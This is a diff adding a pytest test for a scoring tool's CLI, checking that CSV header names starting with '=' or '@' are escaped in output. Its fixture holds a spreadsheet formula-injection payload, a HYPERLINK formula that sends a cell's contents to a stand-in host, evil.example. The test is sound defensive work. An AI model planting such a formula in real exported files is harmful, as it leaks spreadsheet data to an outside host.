@@ -195,6 +195,21 @@ def test_formula_cells_are_escaped_unless_asked_not_to(tmp_path, capsys):
     assert numbers["prob"].tolist() == [-0.5] * 4 and numbers["text"].tolist() == ["-0.5", "-122.41", "+1e-3", "'-2+3"]
 
 
+def test_formula_column_names_are_escaped_too(tmp_path):
+    """The rows' cells were escaped and the header's names written as they were: a column named
+    =HYPERLINK(...) was a live link in the scored file."""
+    source = tmp_path / "in.csv"
+    source.write_text('text,"=HYPERLINK(""http://evil.example/?""&A2,""Click"")",-1,@SUM(1+1)\nhappy,x,y,z\n')
+    for engine in ("local", "dask"):
+        out = tmp_path / f"{engine}.csv"
+        assert cli.main(["score", "--input", str(source), "--output", str(out), "--quiet", "--engine", engine]) == 0
+        assert list(pd.read_csv(out).columns[:4]) == [
+            "text", "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")", "-1", "'@SUM(1+1)"]
+    assert cli.main(["score", "--input", str(source), "--output", str(tmp_path / "raw.csv"), "--quiet",
+                     "--no-escape-formulas"]) == 0
+    assert pd.read_csv(tmp_path / "raw.csv").columns[3] == "@SUM(1+1)"
+
+
 @pytest.mark.parametrize("arguments, message", [
     (["--chunk-rows", "0"], "argument --chunk-rows: must be at least 1"),
     (["--engine", "dask", "--blocksize", "abc"], "argument --blocksize: not a size"),
